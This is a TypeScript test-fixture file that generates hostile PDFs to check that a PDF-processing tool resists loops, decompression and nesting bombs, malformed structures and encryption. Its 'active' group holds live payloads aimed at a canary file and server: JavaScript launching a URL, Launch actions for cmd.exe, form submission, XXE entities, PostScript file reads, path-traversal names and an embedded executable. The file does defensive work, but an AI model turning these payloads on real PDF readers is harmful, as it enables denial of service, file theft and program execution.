import { execFile } from 'node:child_process';
import { randomBytes } from 'node:crypto';
import { readFile } from 'node:fs/promises';
import { join } from 'node:path';
import { promisify } from 'node:util';
import { deflateSync } from 'node:zlib';
import {
  deflatedZeros,
  endlessContent,
  faxPicture,
  hiddenPicture,
  hugePage,
  manyPages,
  nestedForms,
  pdfOf,
  stream,
  tinyTiles,
  twiceDeflatedPicture,
} from '../document/heavy-files.ts';

const run = promisify(execFile);

interface Place {
  folder: string;
  /** A PDF without faults. */
  sound: string;
  /** What no PDF may reach: the path of a text and the address of a server. */
  canary: { text: string; url: string };
}

export interface HostilePdf {
  name: string;
  make(place: Place): Buffer | Promise<Buffer>;
  /** The failure that every operation has to give. Others may also succeed, within limits. */
  refusal?: RegExp;
  /** Whether it tries to reach something outside. */
  reaches?: boolean;
}

const helvetica = '/Font << /F << /Type /Font /Subtype /Type1 /BaseFont /Helvetica >> >>';
const words = 'BT /F 12 Tf 20 100 Td (Lathe page) Tj ET\n';
const damaged = /could not be read|has no pages|failed on this file|damaged/;

interface Parts {
  catalog?: string;
  /** Entries of the page tree's root. */
  tree?: string;
  page?: string;
  resources?: string;
  content?: Buffer;
}

/** Writes a PDF of one page, as far as it does not claim otherwise. Further objects are numbered from 5. */
function pdf(
  { catalog = '', tree = '/Kids [3 0 R] /Count 1', page = '', resources = '', content }: Parts,
  further: (string | Buffer)[] = [],
): Buffer {
  return pdfOf([
    `<< /Type /Catalog /Pages 2 0 R ${catalog} >>`,
    `<< /Type /Pages ${tree} >>`,
    `<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] ${page} /Contents 4 0 R /Resources << ${helvetica} ${resources} >> >>`,
    content ?? stream('', words),
    ...further,
  ]);
}

/** Writes a tree in which each node has the next many times as its kid: a tree of a few nodes has any number of leaves. */
function sharedTree(levels: number, kids: number, count: number): Buffer {
  const root = 5;
  const node = (level: number) =>
    `<< /Type /Pages /Parent 2 0 R /Count 1 /Kids [${`${level === levels - 1 ? 3 : root + level + 1} 0 R `.repeat(kids)}] >>`;
  return pdf(
    { tree: `/Kids [${root} 0 R] /Count ${count}` },
    Array.from({ length: levels }, (_, level) => node(level)),
  );
}

function chain(levels: number): Buffer {
  const node = (level: number) =>
    `<< /Type /Pages /Parent ${level === 0 ? 2 : level + 4} 0 R /Count 1 /Kids [${level === levels - 1 ? 3 : level + 6} 0 R] >>`;
  return pdf(
    { tree: '/Kids [5 0 R] /Count 1' },
    Array.from({ length: levels }, (_, level) => node(level)),
  );
}

const nested = (open: string, close: string, depth: number) => open.repeat(depth) + close.repeat(depth);

/** Writes a PDF whose objects are in an object stream, as given by its entries and content. */
function objectStream(entries: string, content: Buffer): Buffer {
  return Buffer.concat([
    pdf({}, [stream(`/Type /ObjStm ${entries}`, content)]),
    Buffer.from('9 0 obj\n<< /A 5 0 R >>\nendobj\n'),
  ]);
}

/** Writes a PDF whose catalogue and pages are in a compressed object stream, followed by zeros. */
function inflating(bytes: number): Buffer {
  const objects = [
    '<< /Type /Catalog /Pages 2 0 R >>',
    '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
    '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 9 9] >>',
  ];
  let offset = 0;
  const index = objects.map((object, number) => {
    const entry = `${number + 1} ${offset}`;
    offset += object.length + 1;
    return entry;
  });
  const first = `${index.join(' ')} `;
  const content = Buffer.concat([Buffer.from(`${first}${objects.join(' ')} `), Buffer.alloc(bytes, ' ')]);
  const parts: Buffer[] = [Buffer.from('%PDF-1.5\n')];
  const packed = stream(
    `/Type /ObjStm /N 3 /First ${first.length} /Filter [/FlateDecode /FlateDecode]`,
    deflateSync(deflateSync(content)),
  );
  parts.push(Buffer.from('4 0 obj\n'), packed, Buffer.from('\nendobj\n'));
  const start = parts.reduce((sum, part) => sum + part.length, 0);
  const rows = [
    [0, 0, 0],
    [2, 4, 0],
    [2, 4, 1],
    [2, 4, 2],
    [1, 9, 0],
    [1, start, 0],
  ];
  const table = Buffer.concat(
    rows.map(([type = 0, second = 0, third = 0]) => {
      const row = Buffer.alloc(7);
      row[0] = type;
      row.writeUInt32BE(second, 1);
      row.writeUInt16BE(third, 5);
      return row;
    }),
  );
  parts.push(
    Buffer.from('5 0 obj\n'),
    stream('/Type /XRef /Size 6 /Root 1 0 R /W [1 4 2]', table),
    Buffer.from(`\nendobj\nstartxref\n${start}\n%%EOF\n`),
  );
  return Buffer.concat(parts);
}

async function encrypted(place: Place, passwords: string[], name: string): Promise<Buffer> {
  const path = join(place.folder, `${name}.pdf`);
  await run('qpdf', ['--allow-weak-crypto', '--encrypt', ...passwords, '--', place.sound, path]);
  return readFile(path);
}

const loops: Record<string, () => Buffer> = {
  'a page tree that contains itself': () => pdf({ tree: '/Kids [3 0 R 2 0 R] /Count 2' }),
  'a page tree that contains its own parent': () =>
    pdf({ tree: '/Kids [5 0 R 3 0 R] /Count 2' }, ['<< /Type /Pages /Kids [2 0 R] /Count 1 /Parent 2 0 R >>']),
  'a page whose parent is the page': () => pdf({ page: '/Parent 3 0 R /Resources 3 0 R' }),
  'inherited attributes in a loop': () =>
    pdf({ tree: '/Kids [5 0 R] /Count 1 /Parent 5 0 R' }, [
      '<< /Type /Pages /Kids [3 0 R] /Count 1 /Parent 2 0 R /Rotate 6 0 R >>',
      '6 0 R',
    ]),
  'bookmarks in loops': () =>
    pdf({ catalog: '/Outlines 5 0 R' }, [
      '<< /First 6 0 R /Last 7 0 R /Count 2 >>',
      '<< /Title (One) /Parent 5 0 R /Next 7 0 R /First 6 0 R /Dest [3 0 R /Fit] >>',
      '<< /Title (Two) /Parent 6 0 R /Next 6 0 R /First 5 0 R /Last 5 0 R /A << /S /GoTo /D (x) /Next 8 0 R >> >>',
      '<< /S /GoTo /D [3 0 R /Fit] /Next 8 0 R >>',
    ]),
  'names in loops': () =>
    pdf({ catalog: '/Names << /Dests 5 0 R /EmbeddedFiles 5 0 R /JavaScript 5 0 R >> /Dests 7 0 R' }, [
      '<< /Kids [5 0 R 6 0 R] /Limits [(a) (z)] >>',
      '<< /Kids [5 0 R] /Names [(a) (b) (b) (a) (c)] >>',
      '<< /a (a) /b /a /c 7 0 R >>',
    ]),
  'page labels in loops': () =>
    pdf({ catalog: '/PageLabels 5 0 R' }, ['<< /Kids [5 0 R] /Nums [0 5 0 R -5 << /S /D >> 1e99 << /St -1 >> 7] >>']),
  'tags in loops': () =>
    pdf({ catalog: '/MarkInfo << /Marked true >> /StructTreeRoot 5 0 R', page: '/StructParents 0' }, [
      '<< /Type /StructTreeRoot /K 6 0 R /ParentTree 7 0 R /IDTree 7 0 R /RoleMap << /A /B /B /A >> >>',
      '<< /S /A /P 6 0 R /Pg 3 0 R /K [5 0 R 6 0 R [6 0 R] 0] >>',
      '<< /Kids [7 0 R] /Nums [0 [6 0 R 7 0 R]] >>',
    ]),
  'form fields in loops': () =>
    pdf({ catalog: '/AcroForm << /Fields [5 0 R 5 0 R 6 0 R] /CO [5 0 R] >>', page: '/Annots [5 0 R 6 0 R 5 0 R]' }, [
      '<< /Subtype /Widget /FT /Tx /T (a) /Rect [0 0 9 9] /Kids [6 0 R 5 0 R] /Parent 6 0 R >>',
      '<< /Subtype /Widget /T (b) /Rect [0 0 9 9] /Kids [5 0 R] /Parent 5 0 R >>',
    ]),
  'a stream that is as long as itself': () =>
    pdf({ content: Buffer.from(`<< /Length 4 0 R >>\nstream\n${words}\nendstream`) }),
  'a form that draws itself': () =>
    pdf({ resources: '/XObject << /X 5 0 R >>', content: stream('', `${words}/X Do`) }, [
      stream('/Subtype /Form /BBox [0 0 9 9] /Resources << /XObject << /X 5 0 R >> >>', '/X Do /X Do'),
    ]),
  'a font whose characters draw themselves': () =>
    pdf({ resources: '/Font << /T 5 0 R >>', content: stream('', 'BT /T 9 Tf 9 9 Td (aaaa) Tj ET') }, [
      '<< /Type /Font /Subtype /Type3 /FontBBox [0 0 9 9] /FontMatrix [1 0 0 1 0 0] /FirstChar 97 /LastChar 97 /Widths [1] /Encoding << /Differences [97 /a] >> /CharProcs << /a 6 0 R >> /Resources << /Font << /T 5 0 R >> >> >>',
      stream('', '9 0 d0 BT /T 9 Tf (aaaa) Tj ET'),
    ]),
  'a mask that masks itself': () =>
    pdf({ resources: '/ExtGState << /G 5 0 R >>', content: stream('', '/G gs 0 0 99 99 re f') }, [
      '<< /SMask << /S /Luminosity /G 6 0 R >> >>',
      stream(
        '/Subtype /Form /BBox [0 0 99 99] /Group << /S /Transparency >> /Resources << /ExtGState << /G 5 0 R >> >>',
        '/G gs 0 0 9 9 re f',
      ),
    ]),
  'cross-reference tables in a loop': () => {
    const text = pdf({}).toString('latin1');
    const start = /startxref\s+(\d+)/.exec(text)?.[1] ?? '0';
    return Buffer.from(text.replace('/Root 1 0 R', `/Root 1 0 R /Prev ${start} /XRefStm ${start}`), 'latin1');
  },
  'object streams that extend each other': () => objectStream('/N 1 /First 4 /Extends 5 0 R', Buffer.from('1 0 << >>')),
  'layers in loops': () =>
    pdf({ catalog: '/OCProperties << /OCGs [5 0 R] /D << /Order 6 0 R /RBGroups [6 0 R] >> >>' }, [
      '<< /Type /OCMD /OCGs 5 0 R /VE [/And 6 0 R] >>',
      '[/Or 6 0 R [6 0 R]]',
    ]),
  'an annotation that is its own appearance and popup': () =>
    pdf({ page: '/Annots 5 0 R' }, [
      '[6 0 R 5 0 R [6 0 R] null 7]',
      '<< /Type /Annot /Subtype /Text /Rect [0 0 9 9] /Popup 6 0 R /IRT 6 0 R /AP 6 0 R /N 6 0 R /Parent 6 0 R >>',
    ]),
};

const lies: Record<string, () => Buffer> = {
  'a count of two billion pages': () => pdf({ tree: '/Kids [3 0 R] /Count 2147483647' }),
  'a negative count of pages': () => pdf({ tree: '/Kids [3 0 R] /Count -7' }),
  'a count of no pages': () => pdf({ tree: '/Kids [3 0 R] /Count 0' }),
  'one page listed a hundred times': () => pdf({ tree: `/Kids [${'3 0 R '.repeat(100)}] /Count 100` }),
  'a count of pages and no page': () => pdf({ tree: '/Kids [ ] /Count 3' }),
  'kids that are no pages': () => pdf({ tree: '/Kids [3 0 R null 7 (x) [3 0 R] 99 0 R << >> 4 0 R] /Count 8' }),
  'a page of wrong types': () =>
    pdf({
      page: '/MediaBox (x) /CropBox [1 2] /Rotate (a) /UserUnit -1 /Annots 7 /Group [ ] /B 3 /Tabs [ ] /StructParents << >>',
    }),
  'a catalogue of wrong types': () =>
    pdf({
      catalog:
        '/Names 7 /Dests [1] /Outlines (x) /AcroForm [ ] /PageLabels true /StructTreeRoot 3 /OpenAction 9.9 /Metadata 3 0 R /AF 7 /OCProperties 1 /Threads 9 /MarkInfo [ ]',
    }),
  'boxes beyond reason': () =>
    pdf({
      page: `/CropBox [-${'9'.repeat(400)} 1e400 nan 0.${'0'.repeat(400)}1] /MediaBox [0 0 200 200] /Rotate 45.5 /UserUnit 1e30`,
    }),
  'a box of a billion points': () => hugePage(),
  'a box of two hundred points in units of a million': () => hugePage('0 0 200 200', '/UserUnit 1000000'),
  'a box without area': () => hugePage('5 5 5 5'),
  'two billion objects': () =>
    Buffer.from(
      pdf({})
        .toString('latin1')
        .replace(/Size \d+/, 'Size 2147483647'),
      'latin1',
    ),
  'an object of a huge number': () =>
    Buffer.concat([pdf({ catalog: '/Names 2147483646 0 R' }), Buffer.from('\n2147483646 0 obj << >> endobj\n')]),
  'a signature of bytes that do not exist': () =>
    pdf(
      { catalog: '/AcroForm << /SigFlags 3 /Fields [5 0 R] >> /Perms << /DocMDP 6 0 R >>', page: '/Annots [5 0 R]' },
      [
        '<< /Type /Annot /Subtype /Widget /FT /Sig /T (s) /Rect [0 0 0 0] /P 3 0 R /V 6 0 R >>',
        '<< /Type /Sig /Filter /Adobe.PPKLite /SubFilter /ETSI.CAdES.detached /ByteRange [0 9999999999 -5 99999999999999] /Contents <30820000> >>',
      ],
    ),
  'a form of a million characters with a huge limit': () =>
    pdf(
      { catalog: '/AcroForm << /Fields [5 0 R] /DA (/F 1e30 Tf) /NeedAppearances true >>', page: '/Annots [5 0 R]' },
      [
        `<< /Subtype /Widget /FT /Tx /T (${'a.'.repeat(10_000)}) /Ff 33554432 /MaxLen 2147483647 /Rect [0 0 1e9 1e9] /DA (/F 999999 Tf) /V (${'x'.repeat(1_000_000)}) /Opt [${'(x)'.repeat(10_000)}] >>`,
      ],
    ),
  'hostile names everywhere': () =>
    pdf(
      {
        catalog:
          '/Outlines 5 0 R /Names << /EmbeddedFiles << /Names [(../../../etc/passwd) 7 0 R (..\\\\..\\\\x) 7 0 R (a\\000b) 7 0 R] >> >> /PageLabels << /Nums [0 << /P (../..\\r\\nSet-Cookie: x) >>] >>',
      },
      [
        '<< /First 6 0 R /Last 6 0 R /Count 1 >>',
        '<< /Title <FEFF002E002E002F002E002E002F202E0065007400630000000D000A002D002D> /Parent 5 0 R /Dest [3 0 R /Fit] >>',
        '<< /Type /Filespec /F (/etc/passwd) /UF (../../../../tmp/x) /EF << /F 8 0 R >> >>',
        stream('/Type /EmbeddedFile /Params << /Size -1 >>', 'x'),
      ],
    ),
};

const bombs: Record<string, () => Buffer> = {
  'a million pages in five nodes': () => sharedTree(4, 32, 1_048_576),
  'a million pages in five nodes that claim to be one': () => sharedTree(4, 32, 1),
  'more pages than the maximum': () => manyPages(6_000),
  'a page tree of ten thousand levels': () => chain(10_000),
  'arrays of ten thousand levels': () => pdf({ catalog: `/X ${nested('[', ']', 10_000)}` }),
  'dictionaries of five thousand levels': () => pdf({ catalog: `/X ${nested('<< /A ', '>>', 5_000)}` }),
  'dictionaries of four hundred levels': () => pdf({ catalog: `/X ${nested('<< /A ', '>>', 400)}` }),
  'bookmarks of five thousand levels': () =>
    pdf({ catalog: '/Outlines 5 0 R' }, [
      '<< /First 6 0 R /Last 6 0 R /Count 1 >>',
      ...Array.from(
        { length: 5_000 },
        (_, level) =>
          `<< /Title (${level}) /Parent ${level + 5} 0 R /Dest [3 0 R /Fit] /First ${level + 7} 0 R /Last ${level + 7} 0 R /Count 1 >>`,
      ),
      '<< /Title (x) >>',
    ]),
  'form fields of five thousand levels': () =>
    pdf({ catalog: '/AcroForm << /Fields [5 0 R] >>', page: '/Annots [5005 0 R]' }, [
      ...Array.from({ length: 5_000 }, (_, level) => `<< /T (${level}) /FT /Tx /Kids [${level + 6} 0 R] >>`),
      '<< /Subtype /Widget /T (x) /Rect [0 0 9 9] /Parent 5004 0 R >>',
    ]),
  'tags of five thousand levels': () =>
    pdf({ catalog: '/StructTreeRoot 5 0 R' }, [
      '<< /Type /StructTreeRoot /K 6 0 R >>',
      ...Array.from({ length: 5_000 }, (_, level) => `<< /S /Div /P ${level + 5} 0 R /K ${level + 7} 0 R >>`),
      '<< /S /P /Pg 3 0 R /K 0 >>',
    ]),
  'content of fifty thousand nested states': () =>
    pdf({ content: stream('', `${'q '.repeat(50_000)}${words}${nested('[', ']', 50_000)} TJ ${'Q '.repeat(50_000)}`) }),
  'ten thousand links on a page': () =>
    pdf({
      page: `/Annots [${'<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A << /S /GoTo /D [3 0 R /Fit] >> >> '.repeat(10_000)}]`,
    }),
  'objects in a stream that inflates a hundredfold': () => inflating(20_000_000),
  'a stream of a million objects': () => objectStream('/N 1000000 /First 10', Buffer.from('1 0 '.repeat(1000))),
  'content of a gigabyte behind two filters': () => endlessContent(),
  'forms that draw forms, thirteen levels of ten': () => nestedForms(),
  'tiles of a thousandth of a point': () => tinyTiles(),
  'a picture of 900 million pixels': () => twiceDeflatedPicture(),
  'a picture whose size is in other objects': () => hiddenPicture(),
  'a fax of 3.6 billion pixels': () => faxPicture(),
  'an embedded file of a gigabyte': () =>
    pdf({ catalog: '/Names << /EmbeddedFiles << /Names [(a) 5 0 R] >> >>' }, [
      '<< /Type /Filespec /F (a.txt) /EF << /F 6 0 R >> >>',
      stream('/Filter [/FlateDecode /FlateDecode]', deflateSync(deflatedZeros(1_000_000_000), { level: 9 })),
    ]),
  'metadata of twenty megabytes': () =>
    pdf({ catalog: '/Metadata 5 0 R' }, [
      stream(
        '/Type /Metadata /Subtype /XML /Filter [/FlateDecode /FlateDecode]',
        deflateSync(deflatedZeros(20_000_000)),
      ),
    ]),
  'characters that map to four billion': () =>
    pdf({ resources: '/Font << /T 5 0 R >>', content: stream('', 'BT /T 9 Tf 9 9 Td <0001> Tj ET') }, [
      '<< /Type /Font /Subtype /Type0 /BaseFont /X /Encoding /Identity-H /ToUnicode 6 0 R /DescendantFonts [<< /Type /Font /Subtype /CIDFontType2 /BaseFont /X /CIDSystemInfo << /Registry (Adobe) /Ordering (Identity) /Supplement 0 >> /W [0 2147483647 500] /FontDescriptor << /Type /FontDescriptor /FontName /X /Flags 4 /FontFile2 7 0 R >> >>] >>',
      stream(
        '',
        '/CIDInit /ProcSet findresource begin begincmap 1 begincodespacerange <00000000> <ffffffff> endcodespacerange 1 beginbfrange <00000000> <ffffffff> <0041> endbfrange endcmap',
      ),
      stream('', Buffer.alloc(5_000, 0xff)),
    ]),
  'a function of a trillion samples': () =>
    pdf({ resources: '/Shading << /S 5 0 R >>', content: stream('', '/S sh') }, [
      '<< /ShadingType 1 /ColorSpace /DeviceRGB /Domain [0 1 0 1] /Function 6 0 R >>',
      stream('/FunctionType 0 /Domain [0 1 0 1] /Range [0 1 0 1 0 1] /Size [1000000 1000000] /BitsPerSample 32', 'x'),
    ]),
};

const xml = (body: string) => stream('/Type /Metadata /Subtype /XML', body);

type Reach = (canary: Place['canary']) => Buffer;
const opening = (action: string) => pdf({ catalog: `/OpenAction ${action} /AA << /WC ${action} /WP ${action} >>` });

const active: Record<string, Reach> = {
  'JavaScript on opening': ({ url }) =>
    pdf(
      { catalog: '/OpenAction 5 0 R /Names << /JavaScript << /Names [(a) 5 0 R] >> >>', page: '/AA << /O 5 0 R >>' },
      [`<< /S /JavaScript /JS (app.launchURL\\("${url}/js"\\); while \\(true\\) ;) >>`],
    ),
  'a program to launch': () => opening('<< /S /Launch /F (/usr/bin/touch) /Win << /F (cmd.exe) >> >>'),
  'an address to open': ({ url }) => opening(`<< /S /URI /URI (${url}/uri) >>`),
  'a form to send': ({ url }) => opening(`<< /S /SubmitForm /F << /FS /URL /F (${url}/submit) >> >>`),
  'data to import': ({ text }) => opening(`<< /S /ImportData /F (${text}) >>`),
  'another file to go to': ({ text }) => opening(`<< /S /GoToR /F << /F (${text}) >> /D [0 /Fit] >>`),
  'streams in other files': ({ text, url }) =>
    pdf({
      content: Buffer.from(`<< /Length 0 /F (${text}) /FFilter [ ] >>\nstream\n\nendstream`),
      page: `/Annots [<< /Subtype /FileAttachment /Rect [0 0 9 9] /FS << /FS /URL /F (${url}/fs) >> >>]`,
    }),
  'a picture in another file': ({ text, url }) =>
    pdf({ resources: '/XObject << /I 5 0 R /J 6 0 R >>', content: stream('', '/I Do /J Do') }, [
      Buffer.from(
        `<< /Subtype /Image /Width 8 /Height 8 /BitsPerComponent 8 /ColorSpace /DeviceGray /Length 0 /F << /FS /URL /F (${url}/image) >> >>\nstream\n\nendstream`,
      ),
      Buffer.from(
        `<< /Subtype /Form /BBox [0 0 9 9] /Ref << /F (${text}) /Page 0 >> /Length 0 /OPI << /2.0 << /F (${text}) >> >> >>\nstream\n\nendstream`,
      ),
    ]),
  'PostScript that reads a file': ({ text }) =>
    pdf({ resources: '/XObject << /P 5 0 R >>', content: stream('', `${words}/P Do`) }, [
      stream('/Subtype /PS', `(${text}) (r) file 100 string readline pop show`),
    ]),
  'a form of XML with entities': ({ text, url }) =>
    pdf({ catalog: '/AcroForm << /Fields [ ] /XFA 5 0 R >>' }, [
      stream(
        '',
        `<?xml version="1.0"?><!DOCTYPE x [<!ENTITY f SYSTEM "file://${text}"><!ENTITY u SYSTEM "${url}/xfa">]><xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"><template>&f;&u;</template></xdp:xdp>`,
      ),
    ]),
  'metadata with entities': ({ text, url }) =>
    pdf({ catalog: '/Metadata 5 0 R' }, [
      xml(
        `<?xpacket begin="" id="W5M0MpCehiHzreSzNTczkc9d"?><!DOCTYPE x [<!ENTITY f SYSTEM "file://${text}"><!ENTITY u SYSTEM "${url}/xmp"><!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;">]><x:xmpmeta xmlns:x="adobe:ns:meta/"><rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#"><rdf:Description xmlns:dc="http://purl.org/dc/elements/1.1/" dc:title="&f;&u;">&c;</rdf:Description></rdf:RDF></x:xmpmeta>`,
      ),
    ]),
  'embedded programs': () =>
    pdf(
      {
        catalog: '/Names << /EmbeddedFiles << /Names [(run.exe) 5 0 R] >> >> /Collection << /View /T >> /AF [5 0 R]',
        page: '/Annots [<< /Subtype /FileAttachment /Rect [0 0 9 9] /FS 5 0 R >> << /Subtype /RichMedia /Rect [0 0 9 9] /RichMediaContent 5 0 R >>]',
      },
      [
        '<< /Type /Filespec /F (run.exe) /AFRelationship /Data /EF << /F 6 0 R /UF 6 0 R >> >>',
        stream('/Type /EmbeddedFile /Subtype /application#2Fx-msdownload', `MZ${'\u0000'.repeat(100)}`),
      ],
    ),
};

const broken: Record<string, HostilePdf['make']> = {
  'truncated after a tenth': async ({ sound }) => (await readFile(sound)).subarray(0, 1_000),
  'truncated before its end': async ({ sound }) => (await readFile(sound)).subarray(0, -200),
  ...Object.fromEntries(
    [1, 2, 3, 4].map((seed): [string, HostilePdf['make']] => [
      `with bits flipped (${seed})`,
      async ({ sound }) => {
        const bytes = await readFile(sound);
        // A generator of its own makes every run the same.
        let state = seed * 7_919;
        const next = () => {
          state = (Math.imul(state, 1_103_515_245) + 12_345) >>> 0;
          return state >>> 8;
        };
        for (let count = 0; count < bytes.length / 300; count++) {
          const at = 9 + (next() % (bytes.length - 9));
          bytes[at] = (bytes[at] ?? 0) ^ (1 << (next() % 8));
        }
        return bytes;
      },
    ]),
  ),
  'whose streams are random': () =>
    pdf({ content: stream('/Filter /FlateDecode', randomBytes(5_000)), resources: '/XObject << /I 5 0 R >>' }, [
      stream('/Subtype /Image /Width 99 /Height 99 /Filter /DCTDecode', randomBytes(5_000)),
    ]),
  'behind a megabyte of other bytes': () => Buffer.concat([Buffer.alloc(1_000_000, 'x'), pdf({})]),
};

const refused: Record<string, { make: HostilePdf['make']; refusal: RegExp }> = {
  'of its header alone': { make: () => Buffer.from('%PDF-1.7\n'), refusal: damaged },
  'of random bytes': {
    make: () => Buffer.concat([Buffer.from('%PDF-1.7\n'), randomBytes(5_000)]),
    refusal: damaged,
  },
  'without a catalogue': { make: () => Buffer.from('%PDF-1.7\ntrailer << /Size 1 >>\n%%EOF\n'), refusal: damaged },
  'without pages': { make: () => pdf({ tree: '/Kids [ ] /Count 0' }), refusal: damaged },
  'whose password is not given': {
    make: (place) => encrypted(place, ['secret', 'owner', '256'], 'locked'),
    refusal: /password-protected/,
  },
  'whose old password is not given': {
    make: (place) => encrypted(place, ['secret', 'owner', '40'], 'old'),
    refusal: /password-protected/,
  },
  'of an unknown encryption': {
    make: () =>
      Buffer.from(
        pdf({})
          .toString('latin1')
          .replace(
            '/Root 1 0 R',
            '/Root 1 0 R /ID [<00> <00>] /Encrypt << /Filter /Nobody /V 9 /R 99 /O (x) /U (y) >>',
          ),
        'latin1',
      ),
    refusal: /not supported/,
  },
};

const named = (group: Record<string, () => Buffer>, further: Partial<HostilePdf> = {}): HostilePdf[] =>
  Object.entries(group).map(([name, make]) => ({
    name: `a PDF with ${name}`,
    make,
    ...further,
  }));

/** PDFs that harm readers which trust them. */
export const hostilePdfs: HostilePdf[] = [
  ...named(loops),
  ...named(lies),
  ...named(bombs),
  ...Object.entries(active).map(([name, make]) => ({
    name: `a PDF with ${name}`,
    make: ({ canary }: Place) => make(canary),
    reaches: true,
  })),
  ...Object.entries(broken).map(([name, make]) => ({ name: `a PDF ${name}`, make })),
  ...Object.entries(refused).map(([name, { make, refusal }]) => ({ name: `a PDF ${name}`, make, refusal })),
];
